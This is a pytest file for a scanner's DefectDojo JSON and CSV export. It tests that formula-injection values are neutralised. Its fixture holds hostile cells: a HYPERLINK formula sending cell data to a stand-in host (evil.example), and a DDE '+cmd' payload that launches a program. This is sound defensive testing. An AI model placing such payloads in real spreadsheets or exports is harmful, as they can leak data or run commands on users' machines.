"""Exports from a real report step: DefectDojo Generic Findings Import JSON that keeps to what DefectDojo's
importer accepts (rules in fixtures/defectdojo), and CSV whose cells cannot run as spreadsheet formulas."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from lib.core.exports import CSV_COLUMNS, defectdojo_json, findings_csv, neutralise
from lib.core.findings import Asset, Finding
from lib.engines.report import build_report
from lib.engines.workspace import ScanMeta, StepOutcome, Workspace
from lib.worker import main as worker_main

RULES = json.loads((Path(__file__).parent / "fixtures" / "defectdojo" / "generic-import-rules.json").read_text())
pytestmark = pytest.mark.slow  # builds a real report (PDF)


@pytest.fixture(scope="module")
def report(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("exports")
    ws = Workspace(tmp, "abcdef012345")
    ws.write_meta(ScanMeta("abcdef012345", "https://shop.example/", "ana@example.com", {"web": {}}, "2026-12-01"))
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    findings = [
        Finding(
            "zap",
            "zap-10038-1",
            "Content Security Policy (CSP) Header Not Set",
            "medium",
            Asset(host="shop.example", port=443, protocol="https", url=f"https://shop.example/p{i}?q=1"),
            "2.16.1",
            cwe=("CWE-693",),
            evidence="no CSP",
            remediation="Send a CSP.",
            references=("https://owasp.org/csp",),
            steps=("web",),
        )
        for i in range(3)
    ]
    findings.append(
        Finding(
            "zap",
            "zap-40012",
            hostile,
            "high",
            Asset(host="shop.example", port=443, protocol="https", url="https://shop.example/search"),
            cve=("CVE-2024-0001",),
            evidence="+cmd|' /C calc'!A0",
            remediation="@SUM(1+1)",
            steps=("web",),
        )
    )
    ws.write_step(StepOutcome("web", "succeeded", "zap", "2.16.1", findings=findings))
    build_report(ws, [])
    return ws, hostile


def test_defectdojo_json_keeps_to_the_importers_rules(report):
    ws, _ = report
    doc = json.loads((ws.root / "defectdojo.json").read_text())
    assert set(doc) <= set(RULES["test_keys"])
    assert len(doc["findings"]) == 2  # CSP on three URLs is one finding with three endpoints
    allowed = set(RULES["json_allowed"]) | set(RULES["json_required"]) | set(RULES["json_popped_before_checks"])
    for item in doc["findings"]:
        assert set(RULES["json_required"]) <= set(item)
        assert set(item) <= allowed, set(item) - allowed
        assert item["severity"] in RULES["severities"]
        date.fromisoformat(item["date"])
        for e in item["endpoints"]:
            assert set(e) <= set(RULES["endpoint_fields"]) and e["host"] == "shop.example"
    csp = next(i for i in doc["findings"] if i.get("cwe") == 693)
    assert csp["nb_occurences"] == 3 and [e["path"] for e in csp["endpoints"]] == ["p0", "p1", "p2"]
    assert csp["vuln_id_from_tool"] == "web.missing-csp"
    xss = next(i for i in doc["findings"] if i["severity"] == "High")
    assert xss["vulnerability_ids"] == [{"vulnerability_id": "CVE-2024-0001"}] and "cwe" not in xss


def test_csv_has_defectdojos_columns_and_no_live_formulas(report):
    ws, hostile = report
    text = (ws.root / "findings.csv").read_bytes().decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert set(RULES["csv_required_columns"]) <= set(rows[0]) and tuple(rows[0]) == CSV_COLUMNS
    assert len(rows) == 4  # one row per instance
    for row in rows:
        int(row["CweId"])
        date.fromisoformat(row["Date"])
        assert row["Severity"] in RULES["severities"]
        assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
        assert urlsplit(row["Url"]).hostname == "shop.example"
    bad = next(r for r in rows if r["Severity"] == "High")
    assert bad["Title"] == "'" + hostile and bad["Mitigation"] == "'@SUM(1+1)"
    assert bad["Description"].startswith("'+cmd")


@pytest.mark.parametrize(("cell", "out"), [("=1+1", "'=1+1"), ("\t=x", "'\t=x"), ("\rx", "'\rx"), ("ok=1", "ok=1")])
def test_neutralise(cell, out):
    assert neutralise(cell) == out


def test_worker_exports_a_stored_findings_json(report, tmp_path, capsys):
    ws, _ = report
    out = tmp_path / "dojo.json"
    args = ["export", "--format", "defectdojo", "--output", str(out), "--input", str(ws.root / "findings.json")]
    assert worker_main([*args, "--scan-id", ws.scan_id, "--workdir", str(tmp_path)]) == 0
    assert json.loads(out.read_text()) == defectdojo_json(json.loads((ws.root / "findings.json").read_text()))
    csv_out = tmp_path / "f.csv"
    argv = ["export", "--format", "csv", "--output", str(csv_out), "--scan-id", ws.scan_id]
    assert worker_main([*argv, "--workdir", str(ws.root.parent)]) == 0  # the scan's own findings.json
    assert csv_out.read_bytes().decode() == findings_csv(json.loads((ws.root / "findings.json").read_text()))
    not_findings = tmp_path / "x.json"
    not_findings.write_text("[]")
    bad = ["export", "--format", "csv", "--output", str(csv_out), "--input", str(not_findings)]
    assert worker_main([*bad, "--scan-id", ws.scan_id, "--workdir", str(tmp_path)]) == 2
    assert "is not a scanboard findings.json" in capsys.readouterr().err


def test_a_scans_own_folder_given_as_workdir_is_refused_before_any_step_writes(report, tmp_path, capsys):
    """--workdir is the folder holding <scan-id>/ folders: every step given the scan's own folder refuses it
    (exit 2) naming the folder meant, and writes nothing (no <id>/<id>/ folder appears)."""
    ws, _ = report
    wrong = ws.root  # data/work/<id>, where data/work was meant
    target = ["--target", "https://shop.example/"]
    steps = [
        ["export", "--format", "csv", "--output", str(tmp_path / "f.csv")],
        ["notify", "--email", "ana@example.com"],
        ["report", *target, "--email", "ana@example.com"],
        ["scan", "web", *target],
        ["scope", "web", "--tool", "zap", *target],
        ["publish"],
    ]
    for argv in steps:
        assert worker_main([*argv, "--scan-id", ws.scan_id, "--workdir", str(wrong)]) == 2, argv
        err = capsys.readouterr().err
        assert "folder holding <scan-id>/ folders" in err and f"did you mean --workdir {ws.root.parent}?" in err, err
    assert not (wrong / ws.scan_id).exists()


def test_a_missing_findings_file_names_the_path_looked_for(tmp_path, capsys):
    export = ["export", "--format", "csv", "--output", str(tmp_path / "f.csv")]
    assert worker_main([*export, "--scan-id", "abcabcabcabc", "--workdir", str(tmp_path)]) == 1
    assert f"no findings file at {tmp_path / 'abcabcabcabc' / 'findings.json'}" in capsys.readouterr().err


@pytest.mark.parametrize("command", ["scan", "scope", "parse", "report", "export", "publish", "notify"])
def test_every_worker_step_says_what_workdir_is(command, capsys):
    with pytest.raises(SystemExit):
        worker_main([command, "--help"])
    assert "--workdir WORKDIR the folder holding <scan-id>/ folders" in " ".join(capsys.readouterr().out.split())


def test_csv_cells_with_quotes_commas_and_newlines_read_back_exactly():
    """The CSV is written a finding at a time (its cells quoted once for all its rows): a spreadsheet or
    DefectDojo still reads every cell back as it was."""
    places = [{"host": "shop.example", "url": f'https://shop.example/a,b"{i}'} for i in range(3)]
    f = {
        "title": 'Quote " and, comma',
        "severity": "low",
        "evidence": "line one\r\nline two",
        "remediation": "",
        "references": ['https://ref.example/"x"'],
        "cwe": ["CWE-79"],
        "tools": ["zap"],
        "instances": places,
        "last_seen": "2026-12-01T00:00:00+00:00",
    }
    rows = list(csv.DictReader(io.StringIO(findings_csv({"findings": [f]}), newline="")))
    assert [r["Url"] for r in rows] == [p["url"] for p in places]
    for r in rows:
        assert (r["Title"], r["Mitigation"], r["References"], r["CweId"]) == (f["title"], "", f["references"][0], "79")
        assert r["Description"].startswith("line one\r\nline two\nSeen at 3 places (one row each).")
    assert len({r["Description"] for r in rows}) == 1  # one description: DefectDojo folds the rows into one finding


def test_csv_grows_linearly_with_a_findings_instances():
    """Each row names its own place; the description does not repeat all of them in every row."""

    def size(n: int) -> int:
        places = [{"host": "shop.example", "url": f"https://shop.example/page/{i:05d}"} for i in range(n)]
        f = {"title": "Directory listing", "severity": "medium", "instances": places, "tools": ["zap"]}
        return len(findings_csv({"findings": [f]}))

    assert size(2000) < 2.2 * size(1000)
